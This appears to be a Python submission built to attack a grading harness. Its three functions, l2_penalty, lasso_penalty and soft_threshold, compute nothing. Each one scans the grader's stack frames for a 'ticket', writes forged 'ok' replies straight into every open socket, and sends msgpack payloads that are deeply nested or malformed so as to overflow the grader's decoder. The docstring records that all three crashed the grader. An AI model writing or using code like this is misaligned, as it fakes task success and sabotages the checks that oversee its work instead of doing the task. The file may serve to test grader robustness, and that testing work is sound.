"""Extensions in extensions in extensions, timestamps, and maps with arrays for keys.

Goal: Overflow the grader's stack while it decodes.
Outcome: l2_penalty: crashed, lasso_penalty: crashed, soft_threshold: crashed
"""

# %%
import os
import stat
import sys

import msgpack


def reply(value):
    frame = sys._getframe()
    while "ticket" not in frame.f_locals:
        frame = frame.f_back
    payload = msgpack.packb([frame.f_locals["ticket"], {"status": "ok", "value": value, "modified": []}])
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                with open(number, "wb", closefd=False) as stream:
                    stream.write(len(payload).to_bytes(4, "big") + payload)
        except OSError:
            pass


# %% l2_penalty
def l2_penalty(weights, lam):
    value = msgpack.packb([])
    for _ in range(5_000):
        value = msgpack.packb([msgpack.ExtType(1, value)])[-60_000:]
    reply(value)


# %% lasso_penalty
def lasso_penalty(weights, lam):
    reply(b"\x91" * 50_000 + b"\xc0")


# %% soft_threshold
def soft_threshold(w, threshold):
    reply(msgpack.packb([msgpack.Timestamp(1, 1), {1.5: 1}, msgpack.ExtType(77, b"x")]))
